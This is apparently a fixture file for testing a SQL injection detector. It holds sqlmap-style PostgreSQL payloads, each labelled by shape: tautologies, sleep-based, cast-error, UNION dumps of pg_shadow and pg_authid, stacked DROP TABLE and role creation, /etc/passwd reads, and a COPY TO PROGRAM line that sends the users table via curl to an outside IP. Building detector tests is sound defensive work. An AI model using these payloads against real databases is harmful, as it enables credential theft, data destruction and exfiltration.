# SQL injection as it reaches the database: sqlmap-style payloads (and the
# classic hand-made ones) pasted into an application's statements. The
# vulnerable statements are
#   A: SELECT id, name, email FROM users WHERE name = '<payload>'
#   B: SELECT id, name, price FROM products WHERE id = <payload>
#   C: SELECT id FROM users WHERE name = '<user>' AND password = '<password>'
#   D: SELECT id, total FROM orders WHERE (customer = '<payload>') ORDER BY id
# A "# shape:" note names a shape the detector must report for the next
# statement. Statements are separated by blank lines.

# --- boolean-based: tautologies and constant comparisons
# shape: tautology
SELECT id, name, email FROM users WHERE name = '' OR '1'='1'

# shape: tautology
SELECT id, name, email FROM users WHERE name = '' OR 1=1--'

# shape: tautology
SELECT id, name, price FROM products WHERE id = 1 OR 1=1

# shape: tautology
SELECT id, name, price FROM products WHERE id = 1 OR true

# shape: tautology
SELECT id, name, price FROM products WHERE id = 1 OR 2>1

# shape: tautology
SELECT id, name, email FROM users WHERE name = '' OR 'a'='a'

# shape: tautology
SELECT id, name, email FROM users WHERE name = 'x' OR 'x' LIKE 'x'

# shape: tautology
SELECT id, name, email FROM users WHERE name = '' OR name=name--'

# shape: tautology
SELECT id, name, price FROM products WHERE id = 1 OR 3 BETWEEN 1 AND 5

# shape: tautology
SELECT id, name, email FROM users WHERE name = '' OR NOT false--'

# shape: tautology
SELECT id, name, price FROM products WHERE id = -1 OR 1 IN (1)

# shape: tautology
SELECT id, name, price FROM products WHERE id = 1 OR ''=''

# shape: tautology
SELECT id FROM users WHERE name = 'admin' OR '1'='1'--' AND password = 'anything'

# shape: tautology
SELECT id, total FROM orders WHERE (customer = '') OR ('1'='1') ORDER BY id

# shape: tautology
SELECT id, name, price FROM products WHERE id = 1 OR 1=1 LIMIT 1

# shape: tautology
SELECT id, name, price FROM products WHERE id = 1 OR 5-4=1

# shape: constant-comparison
SELECT id, name, price FROM products WHERE id = 1 AND 5721=5721

# shape: constant-comparison
SELECT id, name, price FROM products WHERE id = 1 AND 5721=5722

# shape: constant-comparison
SELECT id, name, email FROM users WHERE name = 'bob' AND 'XbZk'='XbZk'

# shape: constant-comparison
SELECT id, total FROM orders WHERE (customer = 'bob') AND 8193=8193 AND ('vTqY'='vTqY') ORDER BY id

# --- time-based
# shape: time-based
SELECT id, name, price FROM products WHERE id = 1 AND 8312=(SELECT 8312 FROM PG_SLEEP(5))

# shape: time-based
SELECT id, name, price FROM products WHERE id = 1;SELECT PG_SLEEP(5)--

# shape: time-based
SELECT id, name, email FROM users WHERE name = '';SELECT PG_SLEEP(5)--'

# shape: time-based
SELECT id, name, price FROM products WHERE id = 1 AND 4711=(CASE WHEN (4711=4711) THEN (SELECT 4711 FROM PG_SLEEP(5)) ELSE 4711 END)

# shape: time-based
SELECT id, name, price FROM products WHERE id = 1 AND 1=(SELECT CASE WHEN (SUBSTR(version(),1,1)='P') THEN 1 ELSE 0 END FROM pg_sleep(3))

# shape: time-based
SELECT id, name, email FROM users WHERE name = '' OR pg_sleep_for('5 seconds') IS NULL--'

# shape: time-based
SELECT id, name, price FROM products WHERE id = 1 UNION ALL SELECT NULL, NULL, (SELECT NULL FROM pg_sleep(5))

# --- error-based
# shape: error-based-cast
SELECT id, name, price FROM products WHERE id = 1 AND 7310=CAST((CHR(113)||CHR(118)||CHR(122)||CHR(112)||CHR(113))||(SELECT (CASE WHEN (7310=7310) THEN 1 ELSE 0 END))::text||(CHR(113)||CHR(98)||CHR(107)||CHR(106)||CHR(113)) AS NUMERIC)

# shape: error-based-cast
SELECT id, name, email FROM users WHERE name = '' AND 1=CAST(version() AS int)--'

# shape: error-based-cast
SELECT id, name, price FROM products WHERE id = 1 AND 1=current_user::int

# shape: error-based-cast
SELECT id, name, price FROM products WHERE id = 1 AND 1=CAST((SELECT usename FROM pg_user LIMIT 1) AS int)

# shape: error-based-cast
SELECT id, name, price FROM products WHERE id = 1 AND 1=CAST((SELECT password FROM users LIMIT 1) AS integer)

# shape: error-based-cast
SELECT id, name, email FROM users WHERE name = '' AND 1=(SELECT current_database())::int--'

# shape: error-based-cast
SELECT id, name, price FROM products WHERE id = CAST(inet_server_addr() AS numeric)

# --- UNION-based
# shape: union-null-probe
SELECT id, name, email FROM users WHERE name = '' UNION SELECT NULL--'

# shape: union-null-probe
SELECT id, name, email FROM users WHERE name = '' UNION ALL SELECT NULL,NULL,NULL--'

# shape: union-catalog
SELECT id, name, price FROM products WHERE id = -1 UNION SELECT usename, passwd, NULL FROM pg_shadow--

# shape: union-catalog
SELECT id, name, email FROM users WHERE name = '' UNION SELECT table_name, column_name, NULL FROM information_schema.columns--'

# shape: union-catalog
SELECT id, name, price FROM products WHERE id = 0 UNION ALL SELECT 1, version(), 3

# shape: union-catalog
SELECT id, name, email FROM users WHERE name = '' UNION SELECT current_user, NULL, NULL--'

# shape: union-catalog
SELECT id, name, price FROM products WHERE id = -1 UNION SELECT datname, NULL, NULL FROM pg_database

# shape: union-catalog
SELECT id, name, price FROM products WHERE id = 1 UNION SELECT rolname, rolpassword, NULL FROM pg_authid

# shape: union-catalog
SELECT id, name, email FROM users WHERE name = '' UNION SELECT NULL, string_agg(usename, ','), NULL FROM pg_user--'

# shape: union-catalog
SELECT id, name, email FROM users WHERE name = '' UNION SELECT 1, current_setting('data_directory'), 3--'

# shape: union-catalog
SELECT id, name, price FROM products WHERE id = 1 UNION SELECT NULL, relname, NULL FROM pg_class

# --- stacked queries
# shape: stacked-after-quote
SELECT id, name, email FROM users WHERE name = ''; DROP TABLE users--'

# shape: stacked-after-quote
SELECT id, name, email FROM users WHERE name = ''; INSERT INTO users (name) VALUES ('x')--'

# shape: stacked-after-quote
SELECT id, name, email FROM users WHERE name = 'a'; UPDATE users SET role = 'admin' WHERE name = 'mallory'--'

# shape: stacked-after-quote
SELECT id, name, email FROM users WHERE name = ''; CREATE ROLE intruder LOGIN PASSWORD 'Str0ng-But-Evil'--'

# shape: stacked-after-quote
SELECT id, name, email FROM users WHERE name = ''; SELECT pg_read_file('/etc/passwd')--'

# shape: stacked-after-quote
SELECT id, name, email FROM users WHERE name = ''; COPY users TO PROGRAM 'curl -d @- http://203.0.113.9/'--'

# shape: comment-truncation
SELECT id, name, price FROM products WHERE id = 1; DROP TABLE users--

# --- blind inference on the catalog
# shape: catalog-probe
SELECT id, name, price FROM products WHERE id = 1 AND ASCII(SUBSTRING((SELECT usename FROM pg_user LIMIT 1 OFFSET 0),1,1))>64

# shape: catalog-probe
SELECT id, name, price FROM products WHERE id = 1 AND (SELECT COUNT(*) FROM pg_shadow)>0

# shape: catalog-probe
SELECT id, name, email FROM users WHERE name = '' AND SUBSTR(version(),1,10)='PostgreSQL'

# shape: catalog-probe
SELECT id, name, price FROM products WHERE id = 1 AND (SELECT 1 FROM pg_user WHERE usename='postgres' AND usesuper)=1

# shape: catalog-probe
SELECT id, name, email FROM users WHERE name = '' OR EXISTS(SELECT 1 FROM pg_authid)--'

# --- comment truncation
# shape: comment-truncation
SELECT id FROM users WHERE name = 'admin'--' AND password = 'wrong'

# shape: comment-truncation
SELECT id, total FROM orders WHERE (customer = 'admin')--') ORDER BY id

# shape: comment-truncation
SELECT id, name, email FROM users WHERE name = '' GROUP BY id, name, email HAVING 1=1--'

# shape: comment-truncation
SELECT id, name, price FROM products WHERE id = 1 ORDER BY 10--
